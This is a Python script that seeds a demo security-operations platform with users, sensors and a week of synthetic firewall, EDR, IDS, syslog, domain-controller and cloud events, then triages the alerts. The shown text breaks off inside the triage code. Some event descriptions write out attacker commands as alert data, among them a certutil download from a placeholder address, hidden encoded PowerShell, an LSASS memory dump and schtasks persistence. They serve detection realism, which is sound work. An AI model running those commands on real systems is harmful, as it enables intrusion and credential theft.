#!/usr/bin/env python3
"""Seeds a realistic SOC into a running ThreatPlatform through its public API only (`make demo` runs it).

  scripts/demo-seed.py --api http://localhost:8000     seed (or, when already seeded, only print the logins)
  scripts/demo-seed.py --emit                          print the demo sensors and their records as JSON, touching
                                                       nothing (the integration test posts them to the test API)

What it makes: an admin (through the API binary's `create-admin` command, the one way an admin comes to be; TP_API_DLL
names the built binary) and two analysts (registration, then activation by the admin when registration waits for
approval); eight sensors covering every kind and every format, each with a key; a week of events written here for each
format (timestamps over the last 7 days); triage of the alerts they raise (every status, owners, comments, tags); an
EMAIL notification channel and a rule routing CRITICAL alerts to it.

Idempotent: the rule is written last and is the marker; when it exists nothing is written again. The generated demo
passwords and the time the week is anchored on are kept in .data/demo-logins.json (never committed), so a second run
signs in with the same logins; they are demo logins, for a local demo database only.

Exits non-zero on any answer it did not expect (a 4xx or 5xx, a rejected record), naming the request.
Python 3 standard library only.
"""
import argparse
import json
import os
import random
import secrets
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import datetime, timedelta, timezone

MARKER_RULE = "demo-critical-to-oncall"
ADMIN = ("soc_lead", "soc.lead@example.org")
ANALYSTS = [("ana.martin", "ana.martin@example.org"), ("ben.okafor", "ben.okafor@example.org")]
WEEK = 7 * 24 * 3600


class SeedError(Exception):
    pass


# ----------------------------------------------------------------------------------------------------------- records

def iso(at):
    return at.astimezone(timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def epoch_ms(at):
    return int(at.timestamp() * 1000)


class Week:
    """Times over the 7 days before the anchor (never within 5 minutes of it), from a fixed seed: the same week each run."""

    def __init__(self, anchor, seed):
        self.anchor = anchor
        self.rng = random.Random(seed)

    def at(self, max_age=WEEK - 600, min_age=600):
        return self.anchor - timedelta(seconds=self.rng.randint(min_age, max_age))

    def pick(self, items):
        return self.rng.choice(items)

    def ip(self, net):
        return f"{net}.{self.rng.randint(2, 250)}"


WORKSTATIONS = {"ws-fin-014": "10.10.4.14", "ws-hr-007": "10.10.2.7", "ws-eng-022": "10.10.6.22",
                "lt-sales-031": "10.10.8.31", "ws-it-003": "10.10.1.3"}
SERVERS = {"dc01": "10.20.0.10", "fs-01": "10.20.0.21", "web-01": "198.51.100.10", "mail-01": "198.51.100.25",
           "vpn-gw": "198.51.100.5", "db-01": "10.20.0.40", "bastion-01": "198.51.100.30"}
ATTACKERS = ["203.0.113", "192.0.2"]
USERS = ["j.doe", "m.rossi", "a.nguyen", "s.patel", "k.schmidt"]


def native_firewall(w):
    """fw-edge-01: a perimeter firewall posting the event JSON itself (NATIVE)."""
    events = []
    for n in range(70):
        kind = w.rng.random()
        at = w.at()
        attacker = w.ip(w.pick(ATTACKERS))
        if kind < 0.55:
            port = w.pick([22, 23, 445, 1433, 3389, 5900])
            target = w.pick(list(SERVERS.values())[4:] + ["198.51.100.10"])
            e = dict(event_type="connection_denied", severity="LOW",
                     description=f"Inbound TCP/{port} from {attacker} to {target} denied by policy deny-untrust-inbound",
                     source_ip=attacker, destination_ip=target,
                     metadata={"rule": "deny-untrust-inbound", "action": "deny", "proto": "tcp", "dst_port": port, "zone": "untrust"})
        elif kind < 0.72:
            e = dict(event_type="geo_block", severity="LOW",
                     description=f"Connection from {attacker} dropped: country on the block list", source_ip=attacker,
                     destination_ip="198.51.100.10", metadata={"rule": "geo-block", "action": "drop", "country": w.pick(["KP", "IR", "RU"])})
        elif kind < 0.84:
            hosts = w.rng.randint(8, 40)
            ports = w.rng.randint(300, 5000)
            e = dict(event_type="port_scan", severity="HIGH" if ports > 1000 else "MEDIUM",
                     description=f"Horizontal port scan from {attacker}: {ports:,} ports on {hosts} hosts in 60 s",
                     source_ip=attacker, destination_ip="198.51.100.0",
                     metadata={"rule": "scan-detect", "ports": ports, "hosts": hosts, "action": "shun"})
        elif kind < 0.94:
            failures = w.rng.randint(120, 900)
            e = dict(event_type="rdp_bruteforce", severity="HIGH",
                     description=f"RDP brute force: {failures} failed connections from {attacker} to 198.51.100.12:3389 in 10 min",
                     source_ip=attacker, destination_ip="198.51.100.12",
                     metadata={"rule": "rdp-bruteforce", "failures": failures, "dst_port": 3389})
        else:
            host, ip = w.pick(list(WORKSTATIONS.items()))
            c2 = f"192.0.2.{w.pick([66, 67, 140])}"
            e = dict(event_type="c2_traffic_blocked", severity="CRITICAL",
                     description=f"Outbound connection from {host} ({ip}) to {c2}:443 blocked: address on the C2 block list (Cobalt Strike)",
                     source_ip=ip, destination_ip=c2,
                     metadata={"rule": "threat-intel-c2", "action": "deny", "dst_port": 443, "list": "c2-feed", "host": host})
        events.append(dict(source="fw-edge-01", occurred_at=iso(at), external_id=f"fw-edge-01-{n:04d}", **e))
    return events


EDR_BEHAVIOURS = [
    ("suspicious_powershell", "HIGH", "T1059.001",
     "powershell.exe -NoP -W Hidden -EncodedCommand … spawned by WINWORD.EXE on {host} (user {user})"),
    ("credential_dumping", "CRITICAL", "T1003.001",
     "LSASS memory read by rundll32.exe (comsvcs.dll MiniDump) on {host} (user {user})"),
    ("lolbin_download", "HIGH", "T1105", "certutil.exe -urlcache -f http://203.0.113.80/a.png downloaded a PE file on {host}"),
    ("process_injection", "HIGH", "T1055", "explorer.exe wrote into the memory of a remote process and started a thread on {host}"),
    ("scheduled_task_persistence", "MEDIUM", "T1053.005",
     "schtasks.exe /create /sc onlogon /tn \"OneDrive Updater\" pointing at %APPDATA%\\upd.exe on {host}"),
    ("unsigned_driver_loaded", "LOW", None, "Unsigned driver vboxdrv.sys loaded on {host}"),
    ("usb_mass_storage", "LOW", None, "USB mass storage device mounted on {host} by {user}"),
]


def native_edr(w):
    """edr-workstations: an EDR with grouping on, so repeats of one behaviour on one host fold into one alert."""
    events = []
    n = 0
    for host, ip in WORKSTATIONS.items():
        for event_type, severity, technique, text in EDR_BEHAVIOURS:
            repeats = w.rng.choice([0, 1, 1, 2, 3, 5]) if severity in ("HIGH", "CRITICAL") else w.rng.choice([1, 2, 3])
            for r in range(repeats):
                user = w.pick(USERS)
                sev = severity
                if event_type == "suspicious_powershell" and r == repeats - 1 and repeats >= 3:
                    sev = "CRITICAL"  # the last of a burst escalates the alert it folds into
                e = dict(source="edr-workstations", event_type=event_type, severity=sev, occurred_at=iso(w.at()),
                         description=text.format(host=host, user=user), source_ip=ip,
                         external_id=f"edr-{n:05d}",
                         metadata={"host": host, "user": user, "os": "Windows 11 23H2", "agent": "edr-agent 8.4.1"})
                if technique:
                    e["detection"] = {"model": "edr-behavioral", "model_version": "2026.11",
                                      "confidence": round(w.rng.uniform(0.72, 0.99), 2), "technique": technique}
                events.append(e)
                n += 1
    # a ransomware burst on the file server: one alert, many occurrences
    for r in range(6):
        events.append(dict(source="edr-workstations", event_type="ransomware_behavior", severity="CRITICAL",
                           occurred_at=iso(w.anchor - timedelta(hours=30, minutes=-r * 2)),
                           description=f"Mass file rename to .lockd by svch0st.exe on fs-01 ({1200 + r * 340:,} files in 40 s)",
                           source_ip=SERVERS["fs-01"], external_id=f"edr-{n:05d}",
                           metadata={"host": "fs-01", "process": "C:\\ProgramData\\svch0st.exe", "extension": ".lockd"},
                           detection={"model": "edr-behavioral", "model_version": "2026.11", "confidence": 0.99, "technique": "T1486"}))
        n += 1
    return events


def native_ueba(w):
    """ml-ueba: an AI model scoring sign-ins and traffic, with its detection (model, confidence, ATT&CK technique)."""
    events = []
    for n in range(30):
        user = w.pick(USERS)
        host, ip = w.pick(list(WORKSTATIONS.items()))
        roll = w.rng.random()
        if roll < 0.4:
            kind, sev, tech = "impossible_travel", "MEDIUM", "T1078"
            src, dst = w.ip("203.0.113"), "198.51.100.5"
            text = f"VPN sign-in by {user} from {src} (Lagos) 38 min after one from Paris"
        elif roll < 0.7:
            kind, sev, tech = "dns_beaconing", "HIGH", "T1071.004"
            text = f"{host} queries a random-looking subdomain of cdn-sync.example every 60 s ± 2 s (beaconing)"
            src, dst = ip, "10.20.0.10"
        elif roll < 0.9:
            mb = w.rng.randint(800, 9000)
            kind, sev, tech = "data_exfiltration", "CRITICAL" if mb > 4000 else "HIGH", "T1048"
            text = f"{host} uploaded {mb:,} MB to 192.0.2.{w.rng.randint(150, 200)} over HTTPS, 40x its 30-day baseline"
            src, dst = ip, f"192.0.2.{w.rng.randint(150, 200)}"
        else:
            kind, sev, tech = "rare_process", "LOW", "T1204"
            text = f"Process never seen in the fleet started on {host}: invoice_2026_11.pdf.exe"
            src, dst = ip, None
        e = dict(source="ml-ueba", event_type=kind, severity=sev, occurred_at=iso(w.at()), description=text,
                 source_ip=src, external_id=f"ueba-{n:04d}", metadata={"user": user, "host": host},
                 detection={"model": "ueba-anomaly", "model_version": "1.8.0",
                            "confidence": round(w.rng.uniform(0.55, 0.97), 2), "technique": tech})
        if dst:
            e["destination_ip"] = dst
        events.append(e)
    return events


def cef_branch(w):
    """fw-branch-02: a branch-office firewall exporting CEF."""
    kinds = [
        ("ips:1001", "SMB exploit attempt (MS17-010 EternalBlue) blocked", 9, 445, "IPS-SMB-MS17-010"),
        ("av:2001", "Malware download blocked: Emotet dropper", 8, 80, "AV-Gateway"),
        ("dns:3001", "DNS request for sinkholed domain blocked", 7, 53, "DNS-Sinkhole"),
        ("vpn:4001", "VPN login failed: bad credentials", 5, 443, "SSL-VPN"),
        ("traffic:5001", "Traffic denied by policy", 3, 0, "deny-all"),
        ("traffic:5001", "Traffic denied by policy", 3, 0, "deny-all"),
        ("traffic:5001", "Traffic denied by policy", 3, 0, "deny-all"),
    ]
    lines = []
    for n in range(60):
        cls, name, sev, port, rule = w.pick(kinds)
        attacker = w.ip(w.pick(ATTACKERS))
        inside = f"10.30.0.{w.rng.randint(10, 60)}"
        src, dst = (inside, attacker) if cls.startswith(("av", "dns")) else (attacker, "198.51.100.40")
        dpt = port or w.pick([21, 23, 8080, 3306])
        at = w.at()
        lines.append((at, f"CEF:0|Example Networks|EdgeWall|7.2.1|{cls}|{name}|{sev}|rt={epoch_ms(at)} src={src} dst={dst} "
                     f"dpt={dpt} proto=TCP act=blocked dvchost=fw-branch-02 externalId=fwb-{n:05d} cs1Label=Rule cs1={rule} "
                     f"msg=Branch office Lyon, policy {rule}"))
    return lines


def syslog_hosts(w):
    """bastion-01, web-01, db-01: Linux hosts over syslog, RFC 5424 and RFC 3164 mixed as relays deliver them."""
    lines = []
    for n in range(70):
        at = w.at()
        roll = w.rng.random()
        attacker = w.ip(w.pick(ATTACKERS))
        port = w.rng.randint(30000, 65000)
        ts = at.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
        bsd = at.astimezone(timezone.utc).strftime("%b ") + f"{at.day:>2}" + at.astimezone(timezone.utc).strftime(" %H:%M:%S")
        if roll < 0.45:
            user = w.pick(["root", "admin", "oracle", "ubuntu", "test"])
            line = (f"<38>1 {ts} bastion-01 sshd {w.rng.randint(1000, 30000)} AUTH_FAIL [origin@32473 id=\"bst-{n:05d}\"] "
                         f"Failed password for invalid user {user} from {attacker} port {port} ssh2")
        elif roll < 0.55:
            line = (f"<35>1 {ts} bastion-01 sshd {w.rng.randint(1000, 30000)} BRUTE_FORCE [origin@32473 id=\"bst-{n:05d}\"] "
                         f"maximum authentication attempts exceeded for root from {attacker} port {port} ssh2 [preauth]")
        elif roll < 0.6:
            line = (f"<34>1 {ts} bastion-01 sshd {w.rng.randint(1000, 30000)} ROOT_LOGIN [origin@32473 id=\"bst-{n:05d}\"] "
                         f"Accepted publickey for root from 192.0.2.201 port {port} ssh2: key not in the bastion's inventory")
        elif roll < 0.8:
            line = (f"<86>{bsd} web-01 sudo: deploy : TTY=pts/0 ; PWD=/srv/shop ; USER=root ; "
                         "COMMAND=/usr/bin/systemctl restart nginx")
        elif roll < 0.92:
            line = (f"<131>{bsd} web-01 nginx: ModSecurity: Access denied with code 403 (phase 2). SQL injection "
                         f"detected in ARGS:user from {attacker} [uri \"/login.php\"] [id \"942100\"]")
        else:
            line = (f"<27>{bsd} db-01 postgres[812]: FATAL:  password authentication failed for user \"replicator\" "
                    f"from 10.20.0.{w.rng.randint(50, 90)}")
        lines.append((at, line))
    return lines


SIGNATURES = [
    (2024364, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1),
    (2034647, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
    (2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1),
    (2027865, "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1),
    (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 3),
    (2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2),
]


def suricata_dmz(w):
    """suricata-dmz: Suricata's EVE JSON from the DMZ tap: alerts among DNS, TLS and HTTP records."""
    lines = []
    for n in range(90):
        at = w.at().astimezone(timezone.utc)
        ts = at.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"
        flow = 1_400_000_000_000_000 + n * 7919
        attacker = w.ip(w.pick(ATTACKERS))
        roll = w.rng.random()
        base = {"timestamp": ts, "flow_id": flow, "in_iface": "eth1", "host": "suricata-dmz", "proto": "TCP"}
        if roll < 0.35:
            sid, sig, cat, sev = w.pick(SIGNATURES)
            outbound = "Cobalt" in sig or "curl" in sig
            src, dst = ("198.51.100.25", attacker) if outbound else (attacker, "198.51.100.10")
            base.update(event_type="alert", src_ip=src, src_port=w.rng.randint(30000, 65000), dest_ip=dst,
                        dest_port=443 if outbound else 80,
                        alert={"action": "allowed", "gid": 1, "signature_id": sid, "rev": 3, "signature": sig,
                               "category": cat, "severity": sev})
        elif roll < 0.6:
            name = w.pick(["www.example.com", "update.example.net", "cdn-sync.example", "mail.example.org"])
            base.update(event_type="dns", proto="UDP", src_ip="198.51.100.25", src_port=w.rng.randint(30000, 65000),
                        dest_ip="198.51.100.53", dest_port=53, dns={"type": "query", "rrname": name, "rrtype": "A"})
        elif roll < 0.8:
            sni = w.pick(["shop.example.com", "api.example.com", "login.example.net"])
            base.update(event_type="tls", src_ip=attacker, src_port=w.rng.randint(30000, 65000), dest_ip="198.51.100.10",
                        dest_port=443, tls={"sni": sni, "version": "TLS 1.3"})
        else:
            url = w.pick(["/login.php", "/wp-admin/", "/api/v1/orders", "/.env"])
            base.update(event_type="http", src_ip=attacker, src_port=w.rng.randint(30000, 65000), dest_ip="198.51.100.10",
                        dest_port=80, tx_id=0,
                        http={"hostname": "shop.example.com", "url": url, "http_method": "GET", "status": 404 if url == "/.env" else 200})
        lines.append((at, json.dumps(base, separators=(",", ":"))))
    return lines


def ecs_domain(w):
    """winlogbeat-dc: Windows security events from the domain controller, shipped as ECS."""
    lines = []
    for n in range(60):
        at = w.at()
        user = w.pick(USERS)
        host, ip = w.pick(list(WORKSTATIONS.items()))
        roll = w.rng.random()
        if roll < 0.55:
            doc = {"event": {"action": "logon-failed", "code": "4625", "severity": 3, "outcome": "failure"},
                   "message": f"An account failed to log on: {user} from {ip} ({host}), logon type 3, bad password"}
        elif roll < 0.7:
            doc = {"event": {"action": "kerberos-service-ticket-requested", "code": "4769", "severity": 8},
                   "message": f"Kerberoasting: {user} on {host} requested RC4 service tickets for 14 SPNs in 20 s",
                   "threat": {"technique": {"id": ["T1558.003"], "name": ["Kerberoasting"]}}}
        elif roll < 0.8:
            doc = {"event": {"action": "added-member-to-group", "code": "4728", "severity": 7},
                   "message": f"User tmp_admin added to Domain Admins by {user}",
                   "threat": {"technique": {"id": ["T1098"], "name": ["Account Manipulation"]}}}
        elif roll < 0.86:
            doc = {"event": {"action": "directory-replication-requested", "code": "4662", "severity": 9},
                   "message": f"DCSync: directory replication requested by {host} ({ip}), not a domain controller, as {user}",
                   "threat": {"technique": {"id": ["T1003.006"], "name": ["DCSync"]}}}
        elif roll < 0.9:
            doc = {"event": {"action": "audit-log-cleared", "code": "1102", "severity": 9},
                   "message": f"The Security audit log was cleared by {user}",
                   "threat": {"technique": {"id": ["T1070.001"], "name": ["Clear Windows Event Logs"]}}}
        else:
            doc = {"event": {"action": "logged-in", "code": "4624", "severity": 1, "outcome": "success"},
                   "message": f"{user} logged on to {host} (logon type 10, RemoteInteractive)"}
        doc["event"].update(id=f"dc01-{n:05d}", kind="event", category=["authentication"], provider="Microsoft-Windows-Security-Auditing")
        doc.update({"@timestamp": iso(at), "host": {"name": "dc01", "os": {"family": "windows"}},
                    "source": {"ip": ip}, "user": {"name": user, "domain": "CORP"},
                    "agent": {"type": "winlogbeat", "version": "8.15.0"}, "ecs": {"version": "8.11.0"}})
        lines.append((at, json.dumps(doc, separators=(",", ":"))))
    return lines


def ocsf_cloud(w):
    """cloud-audit: a cloud account's findings and API activity, normalised to OCSF."""
    lines = []
    for n in range(40):
        at = w.at()
        roll = w.rng.random()
        actor = w.pick(USERS)
        src = w.ip("203.0.113")
        if roll < 0.4:
            cls, uid, sev, msg = "Authentication", 3002, 2, f"Console sign-in by {actor} without MFA from {src}"
        elif roll < 0.65:
            cls, uid, sev, msg = "API Activity", 6003, 3, f"{actor} listed every S3 bucket of account 111122223333 from {src}"
        elif roll < 0.85:
            cls, uid, sev, msg = "Detection Finding", 2004, 4, "S3 bucket acme-finance-exports made public (ACL AllUsers:READ)"
        elif roll < 0.95:
            cls, uid, sev, msg = "Detection Finding", 2004, 5, f"Access key created for the root user from {src}"
        else:
            cls, uid, sev, msg = "Detection Finding", 2004, 6, "CloudTrail logging stopped in eu-west-1 by an assumed role"
        doc = {"class_name": cls, "class_uid": uid, "category_name": "Findings" if uid == 2004 else "Identity & Access Management",
               "severity_id": sev, "time": epoch_ms(at), "message": msg,
               "metadata": {"uid": f"cloud-{n:05d}", "version": "1.3.0",
                            "product": {"name": "cloud-audit", "vendor_name": "Example Cloud"}},
               "src_endpoint": {"ip": src}, "actor": {"user": {"name": actor}},
               "cloud": {"provider": "AWS", "region": "eu-west-1", "account": {"uid": "111122223333"}}}
        lines.append((at, json.dumps(doc, separators=(",", ":"))))
    return lines


def native(events):
    return [(datetime.fromisoformat(e["occurred_at"].replace("Z", "+00:00")), json.dumps(e, separators=(",", ":"))) for e in events]


def sensors(anchor):
    """The demo's sensors, each with the records it sends: every kind, every format."""
    def week(name):
        return Week(anchor, f"threatplatform-demo-{name}")

    ndjson, text = "application/x-ndjson", "text/plain"
    plan = [
        dict(name="fw-edge-01", kind="FIREWALL", format="NATIVE", grouping=False, sources=["fw-edge-01"],
             description="Perimeter firewall, HQ (event JSON through the batch endpoint)",
             endpoint="batch", content_type=ndjson,
             records=native(native_firewall(week("fw")))),
        dict(name="edr-workstations", kind="EDR", format="NATIVE", grouping=True, sources=["edr-workstations"],
             description="Endpoint detection on every Windows workstation; repeats of one behaviour fold into one alert",
             endpoint="batch", content_type=ndjson,
             records=native(native_edr(week("edr")))),
        dict(name="ml-ueba", kind="AI_MODEL", format="NATIVE", grouping=True, sources=["ml-ueba"],
             description="User and entity behaviour model (ueba-anomaly 1.8.0)", endpoint="batch", content_type=ndjson,
             records=native(native_ueba(week("ueba")))),
        dict(name="fw-branch-02", kind="FIREWALL", format="CEF", grouping=True, sources=["fw-branch-02"],
             description="Branch office firewall, Lyon (CEF)", endpoint="raw", content_type=text, records=cef_branch(week("cef"))),
        dict(name="linux-syslog", kind="OTHER", format="SYSLOG", grouping=True, sources=["bastion-01", "web-01", "db-01"],
             description="Linux servers through rsyslog (RFC 5424 and RFC 3164)", endpoint="raw", content_type=text,
             records=syslog_hosts(week("syslog")), syslog_networks=["198.51.100.0/24", "10.20.0.0/16"]),
        dict(name="suricata-dmz", kind="IDS", format="SURICATA_EVE", grouping=True, sources=["suricata-dmz"],
             description="Suricata on the DMZ tap (EVE JSON)", endpoint="raw", content_type=ndjson,
             records=suricata_dmz(week("eve"))),
        dict(name="winlogbeat-dc", kind="OTHER", format="ECS", grouping=True, sources=["dc01"],
             description="Domain controller security log through Winlogbeat (ECS)", endpoint="raw", content_type=ndjson,
             records=ecs_domain(week("ecs"))),
        dict(name="cloud-audit", kind="OTHER", format="OCSF", grouping=True, sources=["cloud-audit"],
             description="Cloud account findings and API activity (OCSF 1.3)", endpoint="raw", content_type=ndjson,
             records=ocsf_cloud(week("ocsf"))),
    ]
    for sensor in plan:  # (time, record), oldest first
        sensor["records"].sort(key=lambda record: record[0])
    return plan


# ------------------------------------------------------------------------------------------------------------ client

class Api:
    def __init__(self, base):
        self.base = base.rstrip("/")

    def call(self, method, path, body=None, token=None, key=None, raw=None, content_type="application/json", ok=(200, 201, 204)):
        data = raw.encode() if raw is not None else (json.dumps(body).encode() if body is not None else None)
        for attempt in range(20):
            request = urllib.request.Request(self.base + path, data=data, method=method)
            if data is not None:
                request.add_header("Content-Type", content_type)
            if token:
                request.add_header("Authorization", f"Bearer {token}")
            if key:
                request.add_header("X-Api-Key", key)
            try:
                with urllib.request.urlopen(request, timeout=120) as response:
                    status, text = response.status, response.read().decode()
            except urllib.error.HTTPError as e:
                status, text = e.code, e.read().decode(errors="replace")
                if status in (429, 503) and attempt < 19:
                    time.sleep(min(float(e.headers.get("Retry-After") or 1), 10))
                    continue
            if status in ok:
                return status, (json.loads(text) if text else None)
            raise SeedError(f"{method} {path} answered {status}: {text[:600]}")
        raise SeedError(f"{method} {path}: still throttled after 20 tries")

    def login(self, username, password):
        return self.call("POST", "/api/auth/login/", {"username": username, "password": password})[1]["access"]

    def all_pages(self, path, token):
        results, page = [], 1
        sep = "&" if "?" in path else "?"
        while True:
            _, answer = self.call("GET", f"{path}{sep}page_size=100&page={page}", token=token)
            results += answer["results"]
            if not answer.get("next"):
                return results
            page += 1


# ------------------------------------------------------------------------------------------------------------- seed

def load_state(path):
    if os.path.exists(path):
        with open(path, encoding="utf-8") as f:
            return json.load(f)
    # Demo logins for a local demo database: generated per checkout, kept in .data/ (git-ignored), printed at the end.
    state = {"anchor": datetime.now(timezone.utc).replace(microsecond=0).isoformat(),
             "users": [{"username": u, "email": e, "role": r, "password": f"demo-{secrets.token_urlsafe(12)}"}
                       for (u, e), r in [(ADMIN, "ADMIN")] + [(a, "ANALYST") for a in ANALYSTS]]}
    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "w", encoding="utf-8") as f:
        json.dump(state, f, indent=2)
    return state


def ensure_admin(api, admin):
    try:
        return api.login(admin["username"], admin["password"])
    except SeedError as e:
        if " 401" not in str(e):
            raise
    dll = os.environ.get("TP_API_DLL")
    if not dll:
        raise SeedError("TP_API_DLL is not set: it names the API binary whose create-admin command makes the demo admin.")
    done = subprocess.run(["dotnet", dll, "create-admin", "--username", admin["username"], "--email", admin["email"],
                           "--password-stdin"], input=admin["password"] + "\n", capture_output=True, text=True)
    if done.returncode != 0:
        raise SeedError(f"create-admin refused the demo admin ({done.stderr.strip() or done.stdout.strip()}). If "
                        f"'{admin['username']}' exists from another demo whose logins file is gone, use a fresh database.")
    print(f"  admin {admin['username']} created")
    return api.login(admin["username"], admin["password"])


def ensure_analyst(api, admin_token, user):
    try:
        _, created = api.call("POST", "/api/auth/register/",
                              {"username": user["username"], "email": user["email"], "password": user["password"]})
        print(f"  analyst {user['username']} registered")
    except SeedError as e:
        if " 400" not in str(e) and " 409" not in str(e):
            raise  # 403: registration closed
    match = [u for u in api.all_pages("/api/users/?role=ANALYST", admin_token) if u["username"] == user["username"]]
    if not match:
        raise SeedError(f"analyst {user['username']} could not be registered")
    if not match[0]["is_active"]:  # Auth__Registration=approval: the admin approves
        api.call("PATCH", f"/api/users/{match[0]['id']}/", {"is_active": True}, token=admin_token)
    return match[0]["id"], api.login(user["username"], user["password"])


def seed_sensors(api, admin_token, plan):
    """Creates the sensors and their keys, then sends the week in half-day rounds, every sensor in each round, so
    alerts are raised in the order their events happened and the queue's newest alerts come from every sensor."""
    existing = {s["name"]: s for s in api.all_pages("/api/sensors/", admin_token)}
    keys = {}
    for sensor in plan:
        if sensor["name"] in existing:
            sensor_id = existing[sensor["name"]]["id"]
        else:
            body = {k: sensor[k] for k in ("name", "kind", "format", "grouping", "sources", "description")}
            if "syslog_networks" in sensor:
                body["syslog_networks"] = sensor["syslog_networks"]
            sensor_id = api.call("POST", "/api/sensors/", body, token=admin_token)[1]["id"]
        keys[sensor["name"]] = api.call("POST", f"/api/sensors/{sensor_id}/keys/", {"name": "demo-shipper"}, token=admin_token)[1]["key"]
    counts = {sensor["name"]: [0, 0] for sensor in plan}
    start = min(sensor["records"][0][0] for sensor in plan)
    end = max(sensor["records"][-1][0] for sensor in plan)
    step = timedelta(hours=12)
    while start <= end:
        for sensor in plan:
            lines = [line for at, line in sensor["records"] if start <= at < start + step]
            if not lines:
                continue
            path = "/api/events/batch/" if sensor["endpoint"] == "batch" else "/api/ingest/raw/"
            _, answer = api.call("POST", path, raw="\n".join(lines) + "\n", key=keys[sensor["name"]],
                                 content_type=sensor["content_type"])
            if answer["rejected"]:
                raise SeedError(f"{sensor['name']}: {len(answer['rejected'])} records rejected, first {answer['rejected'][0]}")
            counts[sensor["name"]][0] += answer["accepted"] + answer["duplicates"]
            counts[sensor["name"]][1] += answer["alerts_created"]
        start += step
    for sensor in plan:
        events, alerts = counts[sensor["name"]]
        print(f"  {sensor['name']:<17} {sensor['kind']:<8} {sensor['format']:<12} {events:>3} events, {alerts:>2} alerts")
    return counts


TAGS = {
    "credential_dumping": ["mitre:t1003", "credential-access"], "ransomware_behavior": ["ransomware", "incident:ir-2026-041"],
    "suspicious_powershell": ["mitre:t1059", "phishing"], "c2_traffic_blocked": ["c2", "threat-intel"],
    "data_exfiltration": ["exfiltration", "dlp"], "dns_beaconing": ["c2", "mitre:t1071"], "port_scan": ["recon"],
    "rdp_bruteforce": ["brute-force", "internet-facing"], "alert": ["ids", "dmz"],
    "kerberos-service-ticket-requested": ["mitre:t1558", "active-directory"],
    "directory-replication-requested": ["active-directory", "incident:ir-2026-041"],
    "Detection Finding": ["cloud", "aws"], "BRUTE_FORCE": ["brute-force", "bastion"], "ROOT_LOGIN": ["bastion", "vip"],
}
FAMILY = {"edr-workstations": "endpoint", "ml-ueba": "identity", "dc01": "identity", "cloud-audit": "cloud"}
COMMENTS = {  # by the kind of evidence (network unless FAMILY says otherwise), then by status
    "network": {
        "ACKNOWLEDGED": ["Looking into it: the source address is not one of ours, checking whether anything answered.",
                         "Pulled the flows for the last 24 h: only this peer, no other internal host involved so far."],
        "IN_PROGRESS": ["Blocked the address on the edge firewall (rule threat-intel-manual); watching for a new source.",
                        "The target answered once; asked the web team for the application logs around that minute."],
        "RESOLVED": ["The traffic stopped after the block; nothing behind the firewall answered. No further action.",
                     "Patched the exposed service and closed the port on the perimeter. Closing."],
        "FALSE_POSITIVE": ["This is the IT team's vulnerability scanner (change CHG-3312); adding an exception.",
                           "Known partner monitoring probe, agreed in the contract. Suppressing for this source."],
    },
    "endpoint": {
        "ACKNOWLEDGED": ["Looking into it: pulling the process tree and the last 24 h of sign-ins on this host.",
                         "Asked the user whether they opened an attachment this morning; waiting for an answer."],
        "IN_PROGRESS": ["Host isolated through the EDR console; INC-20417 opened with desktop support for a reimage.",
                        "Dumped the suspicious binary for the malware team; hash not known to the sandbox yet."],
        "RESOLVED": ["Contained and cleaned: binary removed, persistence deleted, host reimaged, password reset. Closing.",
                     "Quarantined by the EDR before it ran; confirmed no other host has the hash. Closing."],
        "FALSE_POSITIVE": ["The packaging team's build script does this on every release; confirmed with its owner.",
                           "Signed admin tool run by IT support during a ticket (INC-20388). Benign."],
    },
    "identity": {
        "ACKNOWLEDGED": ["Checking the account's recent sign-ins and group changes with the identity team.",
                         "The user is travelling this week according to HR; verifying the device anyway."],
        "IN_PROGRESS": ["Password reset, sessions revoked and MFA re-enrolled; reviewing what the account touched.",
                        "Disabled the account pending a call with its owner; domain admins notified."],
        "RESOLVED": ["Confirmed misuse of a leaked password; account rotated, no lateral movement found. Closing.",
                     "Change reverted and the group membership audited; ticket INC-20422 holds the details."],
        "FALSE_POSITIVE": ["VPN exit node of the mobile carrier, not a second country; the user confirmed. Benign.",
                           "Scheduled service account task, documented in the runbook. Tuning the rule."],
    },
    "cloud": {
        "ACKNOWLEDGED": ["Looking at CloudTrail for the role session and who assumed it.",
                         "Asked the platform team whether this change was planned."],
        "IN_PROGRESS": ["Bucket made private again; listing what was downloaded while it was public.",
                        "Root access key deleted; rotating the credentials of every role that used it."],
        "RESOLVED": ["Reverted and guarded with an SCP so it cannot happen again. Closing.",
                     "Change traced to an infrastructure-as-code run with a bad variable; fixed upstream. Closing."],
        "FALSE_POSITIVE": ["Planned change CHG-3340 by the platform team, approved yesterday.",
                           "Sandbox account used for training; nothing real is stored there."],
    },
}
NOTES = {
    "ACKNOWLEDGED": "Triage started", "IN_PROGRESS": "Containment under way", "RESOLVED": "Contained and remediated",
    "FALSE_POSITIVE": "Benign: expected activity", "OPEN": "Reopened: the behaviour came back after the fix",
}


def triage(api, admin_token, analysts):
    """Every status, with owners, comments and tags, as a shift of two analysts and a lead would leave it."""
    alerts = api.all_pages("/api/alerts/?ordering=created_at", admin_token)
    rng = random.Random("threatplatform-demo-triage")
    plan = {}
    for alert in alerts:
        if alert["status"] != "OPEN" or alert.get("assignee"):
            continue  # already triaged by an earlier, interrupted run
        roll = rng.random()
        plan[alert["id"]] = ("OPEN" if roll < 0.35 else "ACKNOWLEDGED" if roll < 0.5 else "IN_PROGRESS" if roll < 0.65
                             else "RESOLVED" if roll < 0.88 else "FALSE_POSITIVE")
    reopened = [a for a, s in plan.items() if s == "RESOLVED"][:2]
    by_id = {a["id"]: a for a in alerts}
    for alert_id, target in plan.items():
        alert = by_id[alert_id]
